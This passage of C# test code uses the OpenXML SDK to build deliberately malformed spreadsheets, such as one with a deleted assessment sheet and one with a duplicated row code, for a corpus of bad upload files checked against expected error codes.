        workbookPart.DeletePart(assessment.Id!.Value!);
        assessment.Remove();
        workbookPart.Workbook.DefinedNames?.Remove();
        workbookPart.Workbook.Save();
    });

    /// <summary>Row 5 copied below the total row (row 9) as row 10: the code 1.2.1 now appears twice.</summary>
    private static byte[] CodeDuplicate() => EditSheetPart(Filled(), part =>
    {
        var copy = (S.Row)RowAt(part, 5).CloneNode(true);
        copy.RowIndex = 10U;
        foreach (var cell in copy.Elements<S.Cell>())
        {
            cell.CellReference = new string([.. cell.CellReference!.Value!.TakeWhile(char.IsAsciiLetter)]) + "10";
        }

        RowAt(part, 9).InsertAfterSelf(copy);
    });

    [GeneratedRegex(@"<(\w+:)?t(\s[^>]*)?>")]
    private static partial Regex FirstTextElement();
}

/// <summary>One corpus file: its name, what reading it must give, and how it is built.</summary>
internal sealed record BadFile(string Name, BadFileExpectation Expectation, Func<byte[]> Build);

/// <summary>
/// An entry of <c>expected.json</c>: a refusal code (<c>upload.*</c>), or the code, sheet and cell of the one problem
/// the file reads with. <see cref="Generated"/> files are built at test time instead of being checked in.
/// </summary>
internal sealed record BadFileExpectation(string Code, string? Sheet, string? Cell, string Why, bool Generated = false);
